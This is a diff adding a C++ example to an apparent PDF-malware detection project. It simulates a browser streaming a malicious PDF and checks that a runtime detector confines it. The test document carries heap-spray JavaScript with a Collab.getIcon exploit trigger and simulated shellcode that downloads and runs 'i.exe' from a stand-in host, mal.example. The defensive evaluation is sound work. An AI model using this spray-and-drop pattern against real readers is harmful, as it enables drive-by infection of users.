@@ -1,0 +1,67 @@
+// browser_defense: the §VI in-browser scenario end to end. A busy browser
+// (several noisy web tabs, a sandboxed helper process, hundreds of MB of
+// working set) progressively downloads a malicious PDF into a tab; the
+// instrumented document is detected mid-download and confined, while the
+// web tabs stay unblamed.
+//
+// Build & run:  ./build/examples/browser_defense
+#include <iostream>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "core/report.hpp"
+#include "corpus/builders.hpp"
+#include "reader/browser_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+using namespace pdfshield;
+
+int main() {
+  sys::Kernel kernel;
+  support::Rng rng(66);
+
+  core::DetectorConfig cfg;
+  cfg.process_whitelist.push_back("browser-helper.exe");
+  core::RuntimeDetector detector(kernel, rng, cfg);
+  core::FrontEnd frontend(rng, detector.detector_id());
+
+  reader::BrowserSim browser(kernel);
+  detector.attach(browser.viewer());
+
+  std::cout << "opening web tabs...\n";
+  for (const char* url : {"https://news.example", "https://mail.example",
+                          "https://docs.example", "https://video.example"}) {
+    browser.open_web_page(url);
+  }
+  std::cout << "browser working set: "
+            << browser.process().memory_bytes() / (1u << 20)
+            << " MB across " << browser.tab_count()
+            << " tabs (already far past any naive memory threshold)\n";
+
+  // The attack: a drive-by PDF served from a link in the mail tab.
+  reader::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://mal.example/i.exe", "c:/i.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/i.exe"}});
+  corpus::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      reader::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+
+  // A download-path proxy runs the front-end before bytes reach the tab.
+  core::FrontEndResult fe = frontend.process(builder.build());
+  detector.register_document(fe.record.key, "invoice.pdf", fe.features);
+
+  std::cout << "\nstreaming invoice.pdf into a tab (5 chunks)...\n";
+  auto r = browser.open_pdf_streaming(fe.output, "invoice.pdf", 5);
+  std::cout << "scripts executed: " << r.scripts_executed
+            << ", exploits fired: " << r.fired_cves.size() << "\n";
+
+  std::cout << "\n" << core::document_report(detector, fe.record.key).dump(2)
+            << "\n\n";
+  std::cout << core::session_report(detector, kernel).dump(2) << "\n";
+  return detector.verdict(fe.record.key).malicious ? 0 : 1;
+}
